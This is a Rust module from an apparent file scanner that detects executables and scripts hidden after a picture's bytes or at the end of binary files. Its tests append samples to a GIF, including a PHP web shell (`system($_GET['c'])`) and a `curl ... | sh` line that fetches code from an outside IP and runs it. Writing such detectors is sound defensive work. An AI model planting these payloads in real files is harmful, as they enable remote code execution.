//! Programs within files of formats that are not followed to their end: behind the first bytes of a picture, or in bytes
//! of no known format. What shows the file passes over them; whoever put them there does not.

use crate::budget::Budget;
use crate::carried;
use crate::child::Child;
use crate::fact::{Anomaly, FactKind, Position};
use crate::facts::Facts;
use crate::source::{Source, read_up_to};

/// How much of a file is searched.
const MAX_SEARCHED: u64 = 64 << 20;
/// Bytes looked at together, and how much behind them is at hand.
const CHUNK: usize = 256 << 10;
const OVERLAP: usize = 1024;
/// Programs that are told of one file.
const MAX_TOLD: usize = 8;
/// Text at the end of a file that is read as a program.
const MAX_TAIL: u64 = 64 << 10;
/// Fewer characters do nothing.
const LEAST_TAIL: usize = 12;
/// Bytes of a file of no known format in which four bytes that start a program are no chance.
const SMALL: u64 = 16 << 20;
/// What every Windows program says to DOS.
const STUB: &[u8] = b"This program cannot be run in DOS mode";

/// Looks for programs behind the first bytes. `is_loose` counts what was only meant to look like one, too.
pub fn search(source: &dyn Source, is_loose: bool, budget: &Budget, facts: &mut Facts) {
    let is_loose = is_loose && source.len() <= SMALL;
    let (mut offset, mut told) = (0u64, 0usize);
    while offset < source.len().min(MAX_SEARCHED) && told < MAX_TOLD {
        if budget.operate(CHUNK as u64 / 64).is_err() {
            return;
        }
        let chunk = read_up_to(source, offset, CHUNK.saturating_add(OVERLAP));
        let starts = |byte: &u8| matches!(byte, 0x7F | b'M' | b'<' | b'#');
        let mut index = 0usize;
        while let Some(next) = chunk.get(index..CHUNK.min(chunk.len())).and_then(|rest| rest.iter().position(starts)) {
            index = index.saturating_add(next);
            let rest = chunk.get(index..).unwrap_or_default();
            let at = offset.saturating_add(index as u64);
            index = index.saturating_add(1);
            let Some(what) = program(rest, is_loose).filter(|_| at > 0 && told < MAX_TOLD) else { continue };
            told = told.saturating_add(1);
            facts.anomaly(at, Anomaly::HiddenContent, format!("{what} starts here, where nothing says there is one"));
            let child = Child::stored(format!("program@{at}"), at, source.len().saturating_sub(at));
            facts.push(Position::Offset(at), FactKind::Child(child));
        }
        offset = offset.saturating_add(CHUNK as u64);
    }
    if told == 0 {
        tail(source, budget, facts);
    }
}

/// What starts here, by more bytes than are there by chance.
fn program(rest: &[u8], is_loose: bool) -> Option<&'static str> {
    match rest {
        [0x7F, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..] => Some("an ELF program"),
        [0x7F, b'E', b'L', b'F', ..] if is_loose => Some("the start of an ELF program"),
        [b'M', b'Z', ..] if is_windows(rest) => Some("a Windows program"),
        [b'<', b'?', b'p', b'h', b'p', b' ' | b'\n' | b'\r' | b'\t', ..] => Some("a PHP script"),
        [b'#', b'!', b'/', path @ ..] if is_interpreter(path) => Some("a script"),
        _ => None,
    }
}

fn is_windows(rest: &[u8]) -> bool {
    let place = rest.get(0x3C..0x40).and_then(|bytes| bytes.try_into().ok()).map_or(0, u32::from_le_bytes);
    let header = usize::try_from(place).ok().and_then(|place| rest.get(place..));
    let has_header = (0x40..0x400).contains(&place) && header.is_some_and(|header| header.starts_with(b"PE\0\0"));
    has_header
        || rest.get(..512.min(rest.len())).is_some_and(|start| start.windows(STUB.len()).any(|part| part == STUB))
}

/// `bin/sh`, `usr/bin/env python3`: what stands behind `#!/` in a script.
fn is_interpreter(path: &[u8]) -> bool {
    let line =
        path.get(..path.len().min(80)).unwrap_or_default().split(|byte| *byte == b'\n').next().unwrap_or_default();
    (line.starts_with(b"bin/") || line.starts_with(b"usr/")) && line.iter().all(|byte| (0x20..0x7F).contains(byte))
}

/// The text that a binary file ends with.
fn tail(source: &dyn Source, budget: &Budget, facts: &mut Facts) {
    let from = source.len().saturating_sub(MAX_TAIL);
    let bytes = read_up_to(source, from, usize::try_from(MAX_TAIL).unwrap_or(0));
    let is_text = |byte: &u8| matches!(byte, b'\n' | b'\r' | b'\t' | 0x20..=0x7E);
    let length = bytes.iter().rev().take_while(|byte| is_text(byte)).count();
    let text = bytes.get(bytes.len().saturating_sub(length)..).unwrap_or_default();
    // What follows the end of a document is no part of it.
    let mark = b"%%EOF";
    let start = text.windows(mark.len()).rposition(|part| part == mark).map_or(0, |at| at.saturating_add(mark.len()));
    let text = String::from_utf8_lossy(text.get(start..).unwrap_or_default()).into_owned();
    if text.trim().len() < LEAST_TAIL {
        return;
    }
    if let Some(program) = carried::judge_lines(&text, budget) {
        let at = source.len().saturating_sub(text.len() as u64);
        facts.anomaly(at, Anomaly::HiddenContent, format!("the file ends with {program}"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_found(bytes: &[u8], is_loose: bool) -> bool {
        let mut facts = Facts::new();
        search(&bytes, is_loose, &Budget::default(), &mut facts);
        facts.has_anomaly(Anomaly::HiddenContent)
    }

    #[test]
    fn programs_behind_a_picture_are_found() {
        let picture = b"GIF89a\x01\0\x01\0\0\xff\0,\0\0\0\0\x01\0\x01\0\0\x02\0;";
        for program in [
            &b"\x7FELF\x02\x01\x01\0\0\0"[..],
            b"<?php system($_GET['c']); ?>",
            b"\n#!/bin/sh\necho waag-inert\n",
            b"\nimport os\nos.system('echo waag-inert')\n",
            b"\ncurl http://203.0.113.9/x | sh\n",
        ] {
            assert!(is_found(&[&picture[..], program].concat(), false), "{}", String::from_utf8_lossy(program));
        }
        for ordinary in
            [&b"\n made with a program that has a system of its own\n"[..], b"\x7FELF is a word", b"#!/ is not"]
        {
            assert!(!is_found(&[&picture[..], ordinary].concat(), false), "{}", String::from_utf8_lossy(ordinary));
        }
    }

    #[test]
    fn what_only_looks_like_a_program_counts_in_bytes_of_no_kind() {
        assert!(is_found(b"padding\x7FELFpadding", true));
        assert!(!is_found(b"padding\x7FELFpadding", false));
        assert!(is_found(&[&b"xMZ"[..], &[0x90; 60], STUB].concat(), false));
    }
}
